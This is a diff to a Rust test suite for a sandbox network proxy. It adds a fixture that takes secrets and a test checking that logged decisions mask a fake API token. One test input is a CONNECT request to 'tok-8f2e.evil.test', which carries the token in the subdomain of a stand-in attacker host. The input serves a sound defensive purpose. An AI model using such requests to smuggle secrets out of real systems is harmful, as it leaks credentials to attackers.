@@ -28,6 +28,14 @@ fn bytes(metrics: &crate::SandboxMetrics, direction: crate::Direction) -> u64 {
 }
 
 async fn start(names: &[(&str, SocketAddr)], allow_private: bool) -> Fixture {
+    start_with(names, allow_private, crate::Secrets::default()).await
+}
+
+async fn start_with(
+    names: &[(&str, SocketAddr)],
+    allow_private: bool,
+    secrets: crate::Secrets,
+) -> Fixture {
     let base = tempfile::tempdir().unwrap();
     let resolver = Resolver::Static(
         names
@@ -45,6 +53,7 @@ async fn start(names: &[(&str, SocketAddr)], allow_private: bool) -> Fixture {
         policy,
         tx,
         metrics.clone(),
+        secrets,
     )
     .await
     .unwrap();
@@ -318,4 +327,26 @@ fn sweeping_removes_only_directories_of_dead_processes() {
     assert_eq!(super::owner_pid("garbage"), None);
     // A missing base is nothing to sweep.
     assert_eq!(super::sweep_orphans(&base.path().join("missing")), 0);
+}
+
+#[tokio::test]
+async fn decisions_never_show_a_secret_value() {
+    let secrets = crate::Secrets::new([("API_TOKEN".to_string(), "tok-8f2e".to_string())]);
+    let mut f = start_with(&[], false, secrets).await;
+    // A refused https absolute-form request is logged with its target, query and all.
+    let bad = request(
+        &f.proxy,
+        "GET https://echo.test/?key=tok-8f2e HTTP/1.1\r\n\r\n",
+    )
+    .await;
+    assert!(bad.starts_with("HTTP/1.1 400 "), "{bad}");
+    let refused = request(&f.proxy, "CONNECT tok-8f2e.evil.test:443 HTTP/1.1\r\n\r\n").await;
+    assert!(refused.starts_with("HTTP/1.1 403 "), "{refused}");
+    f.proxy.stop().await;
+    let lines = drain(&mut f.events);
+    assert_eq!(lines.len(), 2, "{lines:?}");
+    for line in &lines {
+        assert!(!line.contains("tok-8f2e"), "{line}");
+        assert!(line.contains("***"), "{line}");
+    }
 }
